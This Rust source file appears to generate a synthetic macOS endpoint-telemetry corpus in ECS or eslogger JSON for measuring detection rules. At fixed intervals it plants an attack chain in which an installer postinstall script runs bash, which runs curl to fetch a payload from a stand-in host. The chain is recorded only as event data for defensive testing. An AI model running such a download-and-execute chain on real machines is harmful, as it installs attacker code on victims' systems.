//! A recording to measure with: an ordinary day on one Mac, with an attack planted now and then.
//!
//! The same arguments give the same bytes.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::{self, Write};

/// What a recording is written as.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Form {
    /// ECS documents of about 800 bytes.
    Ecs,
    /// eslogger's messages of about 4 KiB, and the flows between them as ECS documents.
    Eslogger,
}

/// Between so many events one attack is planted.
const PLANTED_EVERY: u64 = 2_000;
/// How many processes run at once.
const RUNNING: usize = 400;
const PARENTS: [&str; 5] = ["zsh", "launchd", "make", "xpcproxy", "Terminal"];

/// A recording that is to be made.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Corpus {
    pub(crate) form: Form,
    pub(crate) lines: u64,
    /// Whether processes end. Where none does, whoever keeps all of them needs ever more memory.
    pub(crate) exits: bool,
}

/// Writes a recording and returns the times of the attacks in it, each of which matches the seed rule once, with its
/// last event then. A time is RFC 3339 text in milliseconds.
pub(crate) fn write(corpus: Corpus, out: &mut impl Write) -> io::Result<Vec<String>> {
    let Corpus { form, lines, exits } = corpus;
    let mut day = Day {
        form,
        out,
        random: Random(0x5eed),
        time: 1_795_000_000_000,
        lines,
        written: 0,
        messages: BTreeMap::new(),
        next_pid: 400,
    };
    let mut running: Vec<Process> = Vec::new();
    let mut planted = Vec::new();
    while day.written < lines {
        // Only where there is room for the whole of it.
        if day.written / PLANTED_EVERY > planted.len() as u64 && day.written + 4 <= lines {
            planted.push(day.attack()?);
        } else if running.len() < RUNNING || day.random.below(100) < 40 {
            let process = day.process();
            day.exec(&process)?;
            if !exits && running.len() == RUNNING {
                running.remove(0);
            }
            running.push(process);
        } else {
            let at = day.random.below(running.len() as u64) as usize;
            if day.random.below(100) < 33 || !exits {
                day.connect(&running[at])?;
            } else {
                let process = running.swap_remove(at);
                day.exit(&process)?;
            }
        }
    }
    Ok(planted)
}

struct Day<'o, W> {
    form: Form,
    out: &'o mut W,
    random: Random,
    /// Milliseconds since 1970.
    time: u64,
    lines: u64,
    written: u64,
    /// How many messages there were of each kind, by its number.
    messages: BTreeMap<u32, u64>,
    next_pid: u32,
}

#[derive(Clone)]
struct Process {
    pid: u32,
    name: String,
    parent: &'static str,
    parent_pid: u32,
    args: Vec<String>,
}

impl<W: Write> Day<'_, W> {
    /// A package's script that downloads; returns the time of the connection.
    fn attack(&mut self) -> io::Result<String> {
        let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<String>>();
        let service = Process { name: "package_script_service".into(), args: Vec::new(), ..self.process() };
        let shell = Process {
            name: "bash".into(),
            parent: "package_script_service",
            parent_pid: service.pid,
            args: words(&["/bin/bash", "/tmp/PKInstallSandbox/Scripts/postinstall"]),
            ..self.process()
        };
        let curl = Process {
            name: "curl".into(),
            parent: "bash",
            parent_pid: shell.pid,
            args: words(&["curl", "-fsSL", "https://cdn.example.com/payload"]),
            ..self.process()
        };
        // A message names its parent by a token, which must have been seen.
        if self.form == Form::Eslogger {
            self.exec(&service)?;
        }
        self.exec(&shell)?;
        self.exec(&curl)?;
        self.connect(&curl)
    }

    fn process(&mut self) -> Process {
        self.next_pid = if self.next_pid >= 99_000 { 400 } else { self.next_pid + 1 };
        // Some names are common, and some are those that generated rules ask for.
        let name = match self.random.below(100) {
            0..20 => format!("common-{}", self.random.below(20)),
            20..98 => format!("program-{}", self.random.below(2_000)),
            _ => format!("tool-{}", self.random.below(1_000)),
        };
        let mut args = vec![name.clone()];
        for _ in 0..self.random.below(12) {
            args.push(format!("--option-{}", self.random.below(100)));
        }
        Process {
            pid: self.next_pid,
            name,
            parent: PARENTS[self.random.below(5) as usize],
            parent_pid: 1,
            args,
        }
    }

    fn exec(&mut self, process: &Process) -> io::Result<()> {
        let time = self.tick();
        let line = match self.form {
            Form::Ecs => {
                let words = serde_json::to_string(&process.args).unwrap_or_default();
                let more = format!(
                    r#","args":{words},"args_count":{},"command_line":"{}","working_directory":"/Users/tove""#,
                    process.args.len(),
                    process.args.join(" ")
                );
                self.document(&time, "process", "start", "exec", process, &more, "")
            }
            Form::Eslogger => {
                let old = image("/bin/zsh", process.pid, process.pid * 2, process.parent_pid);
                let new = image(
                    &format!("/usr/local/bin/{}", process.name),
                    process.pid,
                    process.pid * 2 + 1,
                    process.parent_pid,
                );
                let args = serde_json::to_string(&process.args).unwrap_or_default();
                let environment: Vec<String> = (0..24)
                    .map(|number| {
                        format!(r#""VARIABLE_{number}=/a/value/of/some/length/that/is/kept/{number}""#)
                    })
                    .collect();
                let event = format!(
                    r#"{{"exec":{{"script":null,"target":{new},"dyld_exec_path":"/usr/local/bin/{}","cwd":{{"path":"/Users/tove","path_truncated":false}},"last_fd":9,"image_cputype":16777228,"image_cpusubtype":-2147483646,"fds":[{{"fd":0,"fdtype":1}},{{"fd":1,"fdtype":1}},{{"fd":2,"fdtype":1}}],"args":{args},"env":[{}]}}}}"#,
                    process.name,
                    environment.join(",")
                );
                self.message(&time, 9, &old, &event)
            }
        };
        self.put(&line)
    }

    fn exit(&mut self, process: &Process) -> io::Result<()> {
        let time = self.tick();
        let line = match self.form {
            Form::Ecs => self.document(&time, "process", "end", "end", process, r#","exit_code":0"#, ""),
            Form::Eslogger => {
                let image = image(
                    &format!("/usr/local/bin/{}", process.name),
                    process.pid,
                    process.pid * 2 + 1,
                    process.parent_pid,
                );
                self.message(&time, 15, &image, r#"{"exit":{"stat":0}}"#)
            }
        };
        self.put(&line)
    }

    fn connect(&mut self, process: &Process) -> io::Result<String> {
        let time = self.tick();
        let more = format!(
            r#","destination":{{"ip":"198.51.100.{}","port":443,"address":"198.51.100.1"}},"source":{{"ip":"192.0.2.7","port":{}}},"network":{{"transport":"tcp","direction":"egress","type":"ipv4"}}"#,
            1 + self.random.below(254),
            49_152 + self.random.below(16_000)
        );
        let line = match self.form {
            Form::Ecs => self.document(&time, "network", "start", "connection_attempted", process, "", &more),
            // What a network source knows; the rest comes from the messages.
            Form::Eslogger => format!(
                r#"{{"@timestamp":"{time}","event":{{"kind":"event","category":["network"],"type":["start"],"action":"connection_attempted"}},"process":{{"pid":{}}}{more}}}"#,
                process.pid
            ),
        };
        self.put(&line)?;
        Ok(time)
    }

    #[expect(clippy::too_many_arguments, reason = "the parts of one document, in their order")]
    fn document(
        &self,
        time: &str,
        category: &str,
        kind: &str,
        action: &str,
        process: &Process,
        more_of_process: &str,
        more: &str,
    ) -> String {
        let (name, pid, number) = (&process.name, process.pid, self.written);
        let parent = process.parent;
        format!(
            r#"{{"@timestamp":"{time}","agent":{{"id":"0b5c1c52-0000-4000-8000-000000000001","type":"endpoint","version":"9.2.0"}},"ecs":{{"version":"9.0.0"}},"event":{{"kind":"event","category":["{category}"],"type":["{kind}"],"action":"{action}","sequence":{number}}},"host":{{"id":"6f3a0000-0000-4000-8000-000000000002","name":"mac-1","os":{{"type":"macos","family":"macos","name":"macOS","version":"26.1"}}}},"user":{{"id":"501","name":"tove"}},"process":{{"pid":{pid},"entity_id":"entity-{pid}-{name}","name":"{name}","executable":"/usr/local/bin/{name}","code_signature":{{"exists":true,"trusted":true,"signing_id":"com.example.{name}"}},"parent":{{"name":"{parent}","pid":1,"executable":"/bin/{parent}"}}{more_of_process}}}{more}}}"#
        )
    }

    /// Endpoint Security numbers its messages, and those of each kind by themselves, without a gap where none is lost.
    fn message(&mut self, time: &str, kind: u32, process: &str, event: &str) -> String {
        let number: u64 = self.messages.values().sum();
        let of_kind = self.messages.entry(kind).or_default();
        let own = *of_kind;
        *of_kind += 1;
        format!(
            r#"{{"schema_version":1,"mach_time":{number},"event_type":{kind},"thread":{{"thread_id":{number}}},"time":"{time}","version":9,"seq_num":{own},"global_seq_num":{number},"action":{{"result":{{"result":{{"auth":0}},"result_type":0}}}},"action_type":1,"process":{process},"event":{event}}}"#
        )
    }

    fn put(&mut self, line: &str) -> io::Result<()> {
        if self.written == self.lines {
            return Ok(());
        }
        self.written += 1;
        self.out.write_all(line.as_bytes())?;
        self.out.write_all(b"\n")
    }

    /// Lets some time pass and returns it.
    fn tick(&mut self) -> String {
        self.time += self.random.below(10);
        let (seconds, millis) = (self.time / 1000, self.time % 1000);
        let of_day = seconds % 86_400;
        let mut text = String::new();
        // 2026-11-18 and the days after it, all within one month for as long as recordings are.
        let day = 18 + (seconds - 1_794_960_000) / 86_400;
        let _ = write!(
            text,
            "2026-11-{day:02}T{:02}:{:02}:{:02}.{millis:03}Z",
            of_day / 3600,
            of_day / 60 % 60,
            of_day % 60
        );
        text
    }
}

/// An `es_process_t` as eslogger writes it.
fn image(path: &str, pid: u32, pidversion: u32, ppid: u32) -> String {
    let token = |pid: u32, pidversion: u32| {
        format!(
            r#"{{"asid":100000,"pidversion":{pidversion},"ruid":501,"euid":501,"auid":501,"rgid":20,"egid":20,"pid":{pid}}}"#
        )
    };
    format!(
        r#"{{"is_platform_binary":false,"tty":null,"original_ppid":{ppid},"is_es_client":false,"codesigning_flags":570425857,"ppid":{ppid},"start_time":"2026-11-18T00:00:00.000000000Z","session_id":{pid},"group_id":{pid},"team_id":null,"signing_id":"com.example.program","cdhash":"00112233445566778899AABBCCDDEEFF00112233","audit_token":{},"parent_audit_token":{},"responsible_audit_token":{},"executable":{{"path_truncated":false,"path":"{path}","stat":{{"st_dev":16777234,"st_ino":1152921500312,"st_mode":33261,"st_nlink":1,"st_uid":0,"st_gid":0,"st_rdev":0,"st_size":134000,"st_blocks":80,"st_blksize":4096,"st_flags":524320,"st_gen":0,"st_atimespec":"2026-11-01T00:00:00.000000000Z","st_mtimespec":"2026-11-01T00:00:00.000000000Z","st_ctimespec":"2026-11-01T00:00:00.000000000Z","st_birthtimespec":"2026-11-01T00:00:00.000000000Z"}}}}}}"#,
        token(pid, pidversion),
        token(ppid, if ppid == 1 { 1 } else { ppid * 2 + 1 }),
        token(pid, pidversion)
    )
}

/// Numbers that look random (SplitMix64).
struct Random(u64);

impl Random {
    /// Returns one below `limit`.
    fn below(&mut self, limit: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (mixed ^ (mixed >> 31)) % limit
    }
}
